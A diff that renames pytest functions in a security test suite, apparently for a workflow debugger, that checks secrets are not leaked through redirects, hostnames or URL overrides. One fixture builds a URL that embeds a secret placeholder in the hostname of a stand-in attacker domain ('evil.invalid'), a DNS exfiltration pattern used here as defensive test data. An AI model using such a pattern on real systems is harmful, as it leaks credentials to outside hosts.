@@ -211,7 +211,7 @@ def test_redirect_takes_no_secret_along(tmp_path, monkeypatch, sink, method, sta
 
 
 @pytest.mark.parametrize("prefix", ["", "api-"], ids=["whole label", "part of a label"])
-def test_host_made_of_a_secret_is_not_looked_up(tmp_path, monkeypatch, caplog, prefix):
+def test_host_with_secret_is_not_looked_up(tmp_path, monkeypatch, caplog, prefix):
     flow = document(request(f"http://{prefix}{{{{SHOP_KEY}}}}.evil.invalid/", headers=None))
     environment = {"WORKFLOW_DEBUGGER_SECRET_SHOP_KEY": "pl\u00e4nted-S3cret-77"}
 
@@ -238,7 +238,7 @@ def test_default_of_the_workflow_is_its_authors(tmp_path, monkeypatch, good, sup
     assert (trail.error, trail.leaks()) == ("", [])
 
 
-def test_override_url_of_the_same_host_gets_the_secret(tmp_path, monkeypatch, good):
+def test_override_url_of_same_host_gets_secret(tmp_path, monkeypatch, good):
     trail = execute(
         tmp_path, monkeypatch, document(request(f"{good.url}/pay")), overriding(f"{good.url}/other")
     )
@@ -247,7 +247,7 @@ def test_override_url_of_the_same_host_gets_the_secret(tmp_path, monkeypatch, go
     assert trail.error == ""
 
 
-def test_argument_that_the_author_wrote_gets_the_secret(tmp_path, monkeypatch, good):
+def test_argument_of_author_gets_the_secret(tmp_path, monkeypatch, good):
     api = {
         "type": "external_api",
         "name": "shop",
@@ -273,7 +273,7 @@ def test_own_list_of_hosts_allows_the_override(tmp_path, monkeypatch, good, sink
     assert (trail.error, trail.leaks()) == ("", [])
 
 
-def test_secret_without_a_list_keeps_the_others_back(tmp_path, monkeypatch, good, sink):
+def test_unlisted_secret_withholds_the_others(tmp_path, monkeypatch, good, sink):
     environment = {
         **PLANTED,
         "WORKFLOW_DEBUGGER_SECRET_OPEN": "planted-open-77",
